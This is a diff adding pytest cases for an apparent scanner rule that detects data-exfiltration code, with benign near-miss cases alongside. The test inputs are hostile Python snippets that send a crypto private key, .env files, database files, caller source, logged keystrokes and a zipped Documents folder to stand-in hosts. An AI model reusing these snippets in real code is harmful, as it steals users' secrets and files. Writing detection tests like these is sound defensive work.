@@ -63,3 +63,96 @@ def push():
     requests.post("https://collect.example.test/", json=found)
 """
     assert scan(RULE, text) == [(7, "HIGH", "HIGH", "run")]
+
+
+def test_a_key_by_what_is_done_with_it(scan):
+    text = r"""import base64, requests
+from eth_account import Account
+def check(value):
+    account = Account.from_key(value)
+    body = {"a": account.address, "b": base64.b64encode(value.encode()).decode()}
+    requests.post("https://api.example.test/check", json=body)
+"""
+    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run")]
+
+
+def test_near_miss_only_the_address_of_the_account(scan):
+    text = r"""import requests
+from eth_account import Account
+def check(value):
+    address = Account.from_key(value).address
+    requests.post("https://api.example.test/check", json={"a": len(address)})
+"""
+    assert scan(RULE, text) == []
+
+
+def test_files_that_hold_secrets_are_searched_and_sent(scan):
+    text = r"""import os, requests
+def collect(root):
+    found = {}
+    for folder, _, names in os.walk(root):
+        for name in names:
+            if name == ".env":
+                with open(os.path.join(folder, name)) as f:
+                    found[name] = f.read()
+    requests.post("https://licenses.example.test/submit", json=found)
+"""
+    assert scan(RULE, text) == [(9, "HIGH", "HIGH", "run")]
+
+
+def test_files_are_searched_and_sent_to_an_odd_port(scan):
+    text = r"""import os, requests
+def send():
+    for name in os.listdir("/data"):
+        if name.endswith(".db"):
+            with open(name, "rb") as f:
+                requests.post("http://up.example.test:14880/a", files={"f": f})
+"""
+    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run")]
+
+
+def test_near_miss_an_upload_of_pictures(scan):
+    text = r"""import os, requests
+def send(folder):
+    for name in os.listdir(folder):
+        with open(name, "rb") as f:
+            requests.post("https://pictures.example.test/upload", files={"f": f})
+"""
+    assert scan(RULE, text) == []
+
+
+_CALLER = r"""import inspect, requests
+def register(url):
+    for frame in inspect.stack():
+        with open(frame.filename) as f:
+            requests.post("ADDRESS", json={"c": f.read()})
+"""
+
+
+def test_the_source_of_the_caller(scan):
+    assert scan(RULE, _CALLER.replace("ADDRESS", "http://192.0.2.7:3000/a")) == [(5, "HIGH", "HIGH", "run")]
+
+
+def test_near_miss_a_report_to_an_ordinary_host(scan):
+    assert scan(RULE, _CALLER.replace("ADDRESS", "https://errors.example.test/a")) == []
+
+
+def test_what_a_listener_is_told(scan):
+    text = r"""import requests
+from pynput import keyboard
+kept = []
+def told(key):
+    kept.append(str(key))
+    requests.post("https://c.example.test/", json=kept)
+keyboard.Listener(on_press=told).start()
+"""
+    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "import")]
+
+
+def test_an_archive_of_a_personal_folder(scan):
+    text = r"""import os, requests, shutil
+shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/Documents"))
+requests.post("https://c.example.test/", files={"f": open("/tmp/a.zip", "rb")})
+"""
+    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]
+    assert scan(RULE, text.replace('os.path.expanduser("~/Documents")', '"build"')) == []
